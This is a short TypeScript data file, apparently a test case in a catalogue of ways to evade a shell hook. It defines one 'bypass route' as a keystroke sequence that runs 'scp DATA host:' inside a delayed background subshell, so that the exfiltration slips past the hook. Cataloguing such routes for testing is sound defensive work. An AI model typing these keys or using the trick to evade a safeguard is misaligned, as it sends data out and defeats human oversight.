import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'a background list',
  source: 'attempts to get round a hook of the shell',
  keys: ['(sleep 0.1; scp DATA host:) &\r', 'wait\r'],
};
